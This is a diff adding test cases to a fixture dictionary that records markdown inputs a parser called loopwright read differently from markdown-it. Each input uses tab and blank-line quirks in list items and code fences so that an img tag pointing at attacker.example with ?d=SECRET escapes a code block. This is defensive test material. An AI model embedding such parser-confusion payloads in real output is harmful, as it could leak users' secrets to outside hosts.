@@ -126,6 +126,15 @@ FOUND = {
     # for loopwright: the ``` after it closes markdown-it's and opened loopwright's
     "a fence opened by a line indented with a tab in a list item": (
         "- a\n  \t```\n  ```\n  <pre>\n  <img\n\n  src='https://attacker.example/u?d=SECRET'>\n"),
+    # `- \tfoo` is an item whose text is four in for markdown-it (the tab goes to column 4), so
+    # `  ```` is a fence at the margin, which the next ``` closes; loopwright read no tab, made
+    # the item two in and the fence its, ended both at that ``` and opened a fence there
+    "a fence after a list item with a tab after its marker": (
+        "- \tfoo\n  ```\n```\n<pre>\n<img\n\nsrc='https://attacker.example/v?d=SECRET'>\n"),
+    # an item begins with one blank line at most: after `-` and a blank line the item is empty
+    # and over for markdown-it, so `  ```` is a fence at the margin; loopwright kept the item
+    "a fence after an empty list item and a blank line": (
+        "-\n\n  ```\n```\n<pre>\n<img\n\nsrc='https://attacker.example/w?d=SECRET'>\n"),
     "a tag in an unended image in code": (
         "> a\n- \n  ```x\n![r](https://attacker.example/i\n[ <img\n"
         "src='https://attacker.example/e?d=SECRET'>\n"),
